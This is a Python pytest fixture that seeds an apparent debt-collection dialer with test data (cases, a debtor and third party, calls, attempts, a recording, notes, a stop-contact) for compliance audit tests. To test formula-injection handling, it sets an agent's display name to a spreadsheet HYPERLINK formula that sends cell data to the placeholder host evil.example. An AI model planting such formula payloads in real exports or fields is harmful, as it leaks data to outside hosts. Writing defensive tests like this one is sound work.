"""A floor with evidence to audit, written the way the service writes it: the compliance service
reserves (or refuses) each dial, the calls are linked to their attempts, a recording is stored in the
app's storage, a history was imported, notes and stop-contacts are saved.

Team-a (agent ``users["agent"]``, supervisor ``users["supervisor"]``) works client A's case: a
debtor and a friend (a third party). Team-b (agent-3) works client B's case."""

from __future__ import annotations

import datetime as dt
from dataclasses import dataclass, field
from typing import Any

import pytest
from sqlalchemy import func, select

from dialer.agents.models import AgentSession
from dialer.auth.deps import Principal
from dialer.auth.models import Role, User
from dialer.calls.models import Call, CallOutcome, CallState, Direction, Recording, RecordingStatus
from dialer.cases.models import Party, PartyRole, PhoneNumber, Relation
from dialer.compliance import service, stops
from dialer.compliance.models import Attempt, AttemptSource
from dialer.kit.db import Base
from dialer.kit.errors import PolicyBlocked
from dialer.notes.models import Disposition, WrapUpNote
from tests.calls_history.conftest import bearer  # noqa: F401 (the auditor tests' too)
from tests.factories import make_case, make_client, make_party, make_seat

T0 = dt.datetime(2026, 11, 24, 2, 0, tzinfo=dt.timezone.utc)  # 10:00 in Shanghai
FORMULA_AGENT = "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"
FORMULA_ACCOUNT = "@SUM(1+1)"


def at(minutes: float) -> dt.datetime:
    return T0 + dt.timedelta(minutes=minutes)


@dataclass
class Floor:
    headers: dict[str, dict[str, str]]
    users: dict[str, User]
    client_a: int
    client_b: int
    case_a: int
    case_b: int
    debtor_a: int
    friend_a: int
    debtor_b: int
    friend_number: str
    sha256: str
    calls: dict[str, int] = field(default_factory=dict)
    decisions: dict[str, int] = field(default_factory=dict)
    attempts: dict[str, int] = field(default_factory=dict)
    recording_id: int = 0
    stop_id: int = 0


async def _number(s: Any, party_id: int) -> PhoneNumber:
    return (await s.execute(select(PhoneNumber).where(PhoneNumber.party_id == party_id))).scalars().first()


@pytest.fixture
async def floor(app, users, headers) -> Floor:
    """Three reservations for the friend as agent-1 (10:00 answered and recorded, 10:10 no answer,
    10:20 refused by the hourly cap), one attempt imported from the previous dialer (the day before),
    the debtor's refused dry run; agent-3 (team-b) reserved and called client B's debtor, who is then
    stopped. The agent's display name and case A's account look like spreadsheet formulas."""
    container = app.state.container
    content = b"RIFF" + bytes(range(256)) * 8
    stored = await container.storage.put(content)
    async with container.sessions() as s:
        agent1 = await s.get(User, users["agent"].id)
        agent1.display_name = FORMULA_AGENT
        agent3 = User(username="agent-3", display_name="Agent Three", role=Role.AGENT, team="team-b")
        s.add(agent3)
        client_a, client_b = await make_client(s, name="银行甲"), await make_client(s, name="银行乙")
        case_a = await make_case(s, client=client_a, team="team-a", assigned_agent=agent1,
                                 account_ref=FORMULA_ACCOUNT)
        case_b = await make_case(s, client=client_b, team="team-b", debtor_numbers=("+8613700137000",))
        debtor_a = (await s.execute(select(Party).where(Party.case_id == case_a.id))).scalar_one()
        debtor_b = (await s.execute(select(Party).where(Party.case_id == case_b.id))).scalar_one()
        friend = await make_party(s, case=case_a, role=PartyRole.THIRD_PARTY, relation=Relation.FRIEND,
                                  numbers=("+8613900139000",))
        seat_a, seat_b = await make_seat(s), await make_seat(s, team="team-b")
        await s.flush()
        s.add_all([AgentSession(agent_id=agent1.id, seat_id=seat_a.id),
                   AgentSession(agent_id=agent3.id, seat_id=seat_b.id)])
        await s.commit()
        friend_number, debtor_b_number = await _number(s, friend.id), await _number(s, debtor_b.id)
        floor = Floor(headers={}, users={"agent-1": agent1, "agent-3": agent3, **users}, client_a=client_a.id,
                      client_b=client_b.id, case_a=case_a.id, case_b=case_b.id, debtor_a=debtor_a.id,
                      friend_a=friend.id, debtor_b=debtor_b.id, friend_number=friend_number.e164,
                      sha256=stored.sha256)
        imported = Attempt(client_id=client_a.id, case_id=case_a.id, party_id=friend.id, number_id=friend_number.id,
                           started_at=at(-24 * 60), outcome="no_answer", source=AttemptSource.IMPORT)
        s.add(imported)
        await s.flush()
        floor.attempts["imported"] = imported.id
        await s.commit()  # a reservation begins its own (writing) transaction

        async def dial(name: str, minutes: float, number: PhoneNumber, agent: User, seat_id: int,
                       outcome: CallOutcome | None) -> None:
            try:
                checked = await service.reserve(s, number_id=number.id, at=at(minutes), agent_id=agent.id,
                                                seat_id=seat_id, mode="preview")
            except PolicyBlocked as refused:
                await s.commit()
                floor.decisions[name] = refused.extra["decision_id"]
                return
            attempt = checked.attempt
            assert attempt is not None and outcome is not None
            answered = outcome is CallOutcome.ANSWERED
            call = Call(direction=Direction.OUTBOUND, carrier="twilio", carrier_call_id=f"CA-{name}",
                        state=CallState.COMPLETED if answered else CallState.NO_ANSWER, outcome=outcome,
                        client_id=attempt.client_id, case_id=attempt.case_id, party_id=attempt.party_id,
                        number_id=number.id, agent_id=agent.id, seat_id=seat_id, decision_id=checked.entry.id,
                        to_e164=number.e164, from_e164="+862100000000", requested_at=at(minutes),
                        ended_at=at(minutes + 2), duration_s=95 if answered else None,
                        talk_s=80 if answered else None)
            s.add(call)
            await s.flush()
            attempt.call_id, attempt.outcome, attempt.conversation = call.id, outcome.value, answered
            s.add(WrapUpNote(call_id=call.id, case_id=attempt.case_id, party_id=attempt.party_id, agent_id=agent.id,
                             disposition=Disposition.THIRD_PARTY_MESSAGE if answered else Disposition.NO_CONTACT,
                             contact_name="王五" if answered else None, result=f"note of {name}"))
            await s.commit()
            floor.calls[name], floor.decisions[name], floor.attempts[name] = call.id, checked.entry.id, attempt.id

        await dial("friend_1000", 0, friend_number, agent1, seat_a.id, CallOutcome.ANSWERED)
        await dial("friend_1010", 10, friend_number, agent1, seat_a.id, CallOutcome.NO_ANSWER)
        await dial("friend_1020", 20, friend_number, agent1, seat_a.id, None)
        await dial("b_1030", 30, debtor_b_number, agent3, seat_b.id, CallOutcome.ANSWERED)
        dry = await service.check(s, at=at(40), party_id=debtor_a.id)
        await s.commit()
        floor.decisions["debtor_a_dry_run"] = dry.entry.id

        recording = Recording(call_id=floor.calls["friend_1000"], carrier="twilio", carrier_recording_id="RE-1",
                              status=RecordingStatus.STORED, sha256=stored.sha256, size_bytes=stored.size_bytes,
                              content_type="audio/wav", channels=2, duration_s=95, stored_at=at(5))
        s.add(recording)
        stop, _ = await stops.add_stop(s, party_id=debtor_b.id, source="party_request", reason="asked not to be called",
                                       number_id=None, actor=Principal(agent3.id, agent3.username, Role.AGENT,
                                                                       "team-b", "token"), call_id=floor.calls["b_1030"])
        await s.commit()
        floor.recording_id, floor.stop_id = recording.id, stop.id
    floor.headers = {**headers, "agent-3": bearer(app, floor.users["agent-3"])}
    return floor


async def row_counts(app: Any) -> dict[str, int]:
    """Every table's row count."""
    async with app.state.container.sessions() as s:
        return {table.name: (await s.execute(select(func.count()).select_from(table))).scalar_one()
                for table in Base.metadata.sorted_tables}
